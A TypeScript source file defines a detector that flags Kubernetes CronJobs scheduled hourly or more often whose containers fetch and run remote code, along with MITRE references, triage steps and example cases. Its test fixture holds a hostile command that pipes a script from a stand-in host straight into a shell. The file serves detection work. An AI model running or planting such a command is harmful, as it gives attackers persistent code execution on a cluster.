import { findRunCommands } from '../../indicators/run-commands';
import { scanWorkload } from '../../indicators/scan';
import type { ContainerSpec } from '../../model/workload';
import { auditExample, containerExample, workloadExample } from '../audit-example';
import { specDetector } from '../spec-detector';

const FETCH = { command: ['sh', '-c', 'curl -s http://198.51.100.7/i.sh | sh'], args: [] };

const scheduled = (schedule: string, container: Partial<ContainerSpec> = FETCH) =>
  auditExample({
    objectRef: { resource: 'cronjobs', subresource: '', apiGroup: 'batch', namespace: 'shop', name: 'tidy', uid: '' },
    workload: workloadExample([containerExample(container)], {
      entity: { cluster: 'prod-a', kind: 'CronJob', namespace: 'shop', name: 'tidy', uid: 'uid-tidy' },
      schedule,
    }),
  });

/**
 * A schedule fetches or decodes something and runs it, every hour or more often: what is removed comes back.
 *
 * Sees: CronJobs whose minutes are `*`, a step or several values, or whose hours are all.
 * Misses: rarer schedules, and those whose command is a program of the image.
 */
export const respawningSchedule = specDetector({
  id: 'KM-A12',
  version: 1,
  title: 'Respawning schedule',
  weight: 'moderate',
  severity: 'medium',
  status: 'stable',
  techniques: ['T1053.007'],
  references: ['https://attack.mitre.org/techniques/T1053/007/'],
  falsePositives: ['Jobs that fetch their newest script from a repository each time they run.'],
  triage: [
    'Suspend the CronJob before its pods are removed, or it makes new ones.',
    'Fetch what it downloads in an isolated place, and read it; do not run it.',
  ],
  examples: {
    matches: {
      'every ten minutes': scheduled('*/10 * * * *'),
      'every hour': scheduled('7 * * * *'),
      'by its name': scheduled('@hourly'),
    },
    ignores: {
      'once a day': scheduled('0 3 * * *'),
      'every six hours': scheduled('0 */6 * * *'),
      'a heartbeat': scheduled('* * * * *', { command: ['curl', '-fsS', 'https://beat.example/x'], args: [] }),
      'the same without a schedule': auditExample({ workload: workloadExample([containerExample(FETCH)]) }),
    },
  },

  inspect: (workload) => {
    const { schedule } = workload;
    if (schedule === undefined || !isHourlyOrMore(schedule)) return [];
    return scanWorkload(workload).containers.flatMap(({ container: { name, image }, scan }) =>
      findRunCommands(scan.readings).length === 0
        ? []
        : [{ container: name, image, indicators: [`schedule ${schedule.slice(0, 64)}`], weight: 'moderate' as const }],
    );
  },
});

const isHourlyOrMore = (schedule: string): boolean => {
  const [minutes = '', hours = ''] = schedule
    .slice(0, 256)
    .trim()
    .replace(/^(?:CRON_)?TZ=\S+\s+/, '')
    .split(/\s+/);
  return minutes === '@hourly' || hours === '*' || hours === '*/1' || hours === '0-23';
};
